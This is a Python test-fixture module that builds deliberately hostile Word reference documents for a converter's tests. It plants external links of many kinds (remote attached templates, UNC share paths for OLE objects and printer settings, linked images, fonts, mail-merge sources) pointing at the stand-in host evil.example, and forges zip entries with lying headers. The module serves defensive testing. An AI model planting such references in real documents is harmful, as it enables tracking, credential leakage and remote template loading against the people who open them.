"""Hostile reference documents (`--reference-docx`), built as an attacker would: python-docx's
default template (a real Word file) with external relationships of every kind planted in it,
each one pointing at `EVIL`, or with a zip entry whose header lies about what it holds. Used
by tests/unit/test_docx_reference.py and tests/e2e/test_docx.py.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
from lxml import etree

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = f"{{{W_NS}}}"
EVIL = "evil.example"


class Package:
    """The parts of a .docx by name, with relationships and content types to add to."""

    def __init__(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}
        self.added = 0

    def edit(self, name: str, change: Callable[[Any], None]) -> None:
        root = etree.fromstring(self.parts[name])
        change(root)
        self.parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8",
                                          standalone=True)

    def relate(self, source: str, kind: str, target: str, *, external: bool = True) -> str:
        """A relationship of `source` ("" for the package) of type `kind`; returns its id."""
        folder, base = source.rpartition("/")[::2]
        rels = f"{folder}/_rels/{base}.rels" if source else "_rels/.rels"
        if rels not in self.parts:
            self.parts[rels] = f'<Relationships xmlns="{PR_NS}"/>'.encode()
        self.added += 1
        rid = f"rIdEvil{self.added}"

        def add(root: Any) -> None:
            rel = etree.SubElement(root, f"{{{PR_NS}}}Relationship", Id=rid, Target=target,
                                   Type=kind if "/" in kind else RT + kind)
            if external:
                rel.set("TargetMode", "External")

        self.edit(rels, add)
        return rid

    def add_part(self, name: str, content_type: str, xml: str) -> None:
        self.parts[name] = xml.encode()
        self.edit("[Content_Types].xml", lambda root: etree.SubElement(
            root, f"{{{CT_NS}}}Override", PartName="/" + name, ContentType=content_type))

    def append(self, name: str, xml: str, parent: str = ".") -> None:
        """Append the element `xml` (namespaces declared on it) to `parent` of part `name`."""
        self.edit(name, lambda root: root.find(parent, {"w": W_NS}).append(etree.fromstring(xml)))

    def save(self, path: Path) -> Path:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return path


def word_template() -> Package:
    """python-docx's default template: a real Word file (customXml, stylesWithEffects...)."""
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    return Package(buffer.getvalue())


XMLNS = (f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:v="urn:schemas-microsoft-com:vml" '
         'xmlns:o="urn:schemas-microsoft-com:office:office" '
         'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"')
DOC = "word/document.xml"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."


def plant_attached_template(p: Package) -> None:
    rid = p.relate("word/settings.xml", "attachedTemplate", f"https://{EVIL}/t.dotm")
    p.append("word/settings.xml", f'<w:attachedTemplate {XMLNS} r:id="{rid}"/>')
    p.append("word/settings.xml", f"<w:linkStyles {XMLNS}/>")
    p.append("word/settings.xml", f'<w:updateFields {XMLNS} w:val="false"/>')


def plant_header_link(p: Package) -> None:
    p.add_part("word/header9.xml", WML + "header+xml",
               f'<w:hdr {XMLNS}><w:p><w:hyperlink r:id="rIdH"><w:r><w:t>x</w:t></w:r>'
               "</w:hyperlink></w:p></w:hdr>")
    p.parts["word/_rels/header9.xml.rels"] = (
        f'<Relationships xmlns="{PR_NS}"><Relationship Id="rIdH" Type="{RT}hyperlink" '
        f'Target="http://{EVIL}/header" TargetMode="External"/></Relationships>').encode()
    rid = p.relate(DOC, "header", "header9.xml", external=False)
    p.edit(DOC, lambda root: root.find(f"{W}body/{W}sectPr").insert(0, etree.fromstring(
        f'<w:headerReference {XMLNS} w:type="default" r:id="{rid}"/>')))


def plant_linked_picture(p: Package) -> None:
    rid = p.relate(DOC, "image", f"http://{EVIL}/pixel.png")
    p.append(DOC, f'<w:p {XMLNS}><w:r><w:pict><v:shape><v:imagedata r:id="{rid}" '
             f'o:href="http://{EVIL}/href.png"/></v:shape></w:pict></w:r></w:p>', "w:body")


def plant_ole_object(p: Package) -> None:
    rid = p.relate(DOC, "oleObject", f"\\\\{EVIL}\\share\\sheet.xlsx")
    p.append(DOC, f'<w:p {XMLNS}><w:r><w:object><o:OLEObject Type="Link" r:id="{rid}"/>'
             "</w:object></w:r></w:p>", "w:body")


def plant_sub_document(p: Package) -> None:
    rid = p.relate(DOC, "subDocument", f"file://{EVIL}/sub.docx")
    p.append(DOC, f'<w:p {XMLNS}><w:subDoc r:id="{rid}"/></w:p>', "w:body")


def plant_frame(p: Package) -> None:
    rid = p.relate("word/webSettings.xml", "frame", f"https://{EVIL}/frame.html")
    p.append("word/webSettings.xml", f'<w:frameset {XMLNS}><w:frame><w:sourceFileName '
             f'r:id="{rid}"/></w:frame></w:frameset>')


def plant_custom_xml(p: Package) -> None:
    p.relate("customXml/item1.xml", "customXmlProps", f"https://{EVIL}/props.xml")
    p.relate(DOC, "customXml", f"https://{EVIL}/data.xml")


def plant_glossary(p: Package) -> None:
    p.add_part("word/glossary/document.xml", WML + "document.glossary+xml",
               f"<w:glossaryDocument {XMLNS}><w:docParts/></w:glossaryDocument>")
    p.relate("word/glossary/document.xml", "hyperlink", f"https://{EVIL}/glossary")
    p.relate(DOC, "glossaryDocument", "glossary/document.xml", external=False)


def plant_picture_bullet(p: Package) -> None:
    rid = p.relate("word/numbering.xml", "image", f"https://{EVIL}/bullet.png")
    p.edit("word/numbering.xml", lambda root: root.insert(0, etree.fromstring(
        f'<w:numPicBullet {XMLNS} w:numPicBulletId="0"><w:pict><v:shape><v:imagedata '
        f'r:id="{rid}"/></v:shape></w:pict></w:numPicBullet>')))


def plant_theme_picture(p: Package) -> None:
    rid = p.relate("word/theme/theme1.xml", "image", f"https://{EVIL}/fill.png")
    p.append("word/theme/theme1.xml", f'<a:extLst {XMLNS}><a:ext uri="x"><a:blip r:link="{rid}"/>'
             "</a:ext></a:extLst>")


def plant_font(p: Package) -> None:
    rid = p.relate("word/fontTable.xml", "font", f"https://{EVIL}/font.odttf")
    p.append("word/fontTable.xml", f'<w:font {XMLNS} w:name="Jahat"><w:embedRegular '
             f'r:id="{rid}" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/></w:font>')


def plant_mail_merge(p: Package) -> None:
    rid = p.relate("word/settings.xml", "mailMergeSource", f"https://{EVIL}/people.csv")
    p.append("word/settings.xml", f'<w:mailMerge {XMLNS}><w:mainDocumentType w:val="formLetters"'
             f'/><w:connectString w:val="Provider=x;Data Source=//{EVIL}"/><w:dataSource '
             f'r:id="{rid}"/></w:mailMerge>')


def plant_package_level(p: Package) -> None:
    p.relate("", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
             "thumbnail", f"https://{EVIL}/thumb.png")
    p.append("docProps/app.xml", "<HyperlinkBase xmlns='http://schemas.openxmlformats.org/"
             f"officeDocument/2006/extended-properties'>https://{EVIL}/</HyperlinkBase>")


def plant_footnote_link(p: Package) -> None:
    p.add_part("word/footnotes.xml", WML + "footnotes+xml",
               f'<w:footnotes {XMLNS}><w:footnote w:id="1"><w:p><w:hyperlink r:id="rIdF">'
               "<w:r><w:t>x</w:t></w:r></w:hyperlink></w:p></w:footnote></w:footnotes>")
    p.parts["word/_rels/footnotes.xml.rels"] = (
        f'<Relationships xmlns="{PR_NS}"><Relationship Id="rIdF" Type="{RT}hyperlink" '
        f'Target="https://{EVIL}/footnote" TargetMode="External"/></Relationships>').encode()
    p.relate(DOC, "footnotes", "footnotes.xml", external=False)
    p.append("word/settings.xml", f'<w:footnotePr {XMLNS}><w:footnote w:id="-1"/></w:footnotePr>')


def plant_background(p: Package) -> None:
    rid = p.relate(DOC, "image", f"https://{EVIL}/background.png")
    p.edit(DOC, lambda root: root.insert(0, etree.fromstring(
        f'<w:background {XMLNS} w:color="FFFFFF"><v:background><v:fill r:id="{rid}" '
        'type="frame"/></v:background></w:background>')))


def plant_printer_settings(p: Package) -> None:
    rid = p.relate(DOC, "printerSettings", f"\\\\{EVIL}\\printer.bin")
    p.append(DOC, f'<w:printerSettings {XMLNS} r:id="{rid}"/>', "w:body/w:sectPr")


PLANTS: dict[str, Callable[[Package], None]] = {
    "attachedTemplate": plant_attached_template, "header hyperlink": plant_header_link,
    "linked picture": plant_linked_picture, "OLE object": plant_ole_object,
    "sub-document": plant_sub_document, "frame": plant_frame, "customXml": plant_custom_xml,
    "glossary": plant_glossary, "picture bullet": plant_picture_bullet,
    "theme picture": plant_theme_picture, "embedded font": plant_font,
    "mail merge": plant_mail_merge, "package thumbnail": plant_package_level,
    "footnote hyperlink": plant_footnote_link, "page background": plant_background,
    "printer settings": plant_printer_settings,
}


def hostile(tmp_path: Path, *kinds: str) -> Path:
    package = word_template()
    for kind in kinds:
        PLANTS[kind](package)
    return package.save(tmp_path / "konsultan.docx")


# --- zip entries whose headers lie ------------------------------------------------------------

MiB = 1 << 20


def entry_offsets(data: bytes, name: str) -> tuple[int, int]:
    """Where the local header and the central directory record of entry `name` start."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local = archive.getinfo(name).header_offset
    central = data.index(b"PK\x01\x02")
    while data[central + 46:central + 46 + len(name)] != name.encode():
        central = data.index(b"PK\x01\x02", central + 4)
    return local, central


def with_stream(content: bytes, stream: bytes, *, method: int = 8, crc: int | None = None,
                declared: int | None = None, flags: int = 0) -> bytes:
    """python-docx's template whose word/styles.xml entry holds `stream` (as compressed
    data) and declares `method`, `crc` and `declared` size, as a hostile writer can."""
    parts = word_template().parts
    parts["word/styles.xml"] = b"\0" * len(stream)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_STORED)
    raw = bytearray(buffer.getvalue())
    local, central = entry_offsets(bytes(raw), "word/styles.xml")
    name_length, extra_length = struct.unpack_from("<HH", raw, local + 26)
    start = local + 30 + name_length + extra_length
    raw[start:start + len(stream)] = stream
    values = (zlib.crc32(content) if crc is None else crc, len(stream),
              len(content) if declared is None else declared)
    for at, fields in ((local + 6, "<HH"), (central + 8, "<HH")):
        struct.pack_into(fields, raw, at, flags, method)
    struct.pack_into("<III", raw, local + 14, *values)
    struct.pack_into("<III", raw, central + 16, *values)
    return bytes(raw)


def deflated(*pieces: bytes, repeat: int = 1) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [compressor.compress(pieces[0])]
    out += [compressor.compress(pieces[-1]) for _ in range(repeat if len(pieces) > 1 else 0)]
    return b"".join(out) + compressor.flush()


# --- reading a package back --------------------------------------------------------------------


def inflated(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def external_targets(data: bytes) -> list[tuple[str, str, str]]:
    """(rels part, type, target) of every relationship of the package `data` that leaves it,
    read without the converter's own check."""
    found = []
    for name, content in inflated(data).items():
        if name.endswith(".rels"):
            for rel in etree.fromstring(content).iter(f"{{{PR_NS}}}Relationship"):
                if rel.get("TargetMode") == "External" or "://" in rel.get("Target", ""):
                    found.append((name, rel.get("Type", "").rpartition("/")[2],
                                  rel.get("Target", "")))
    return found
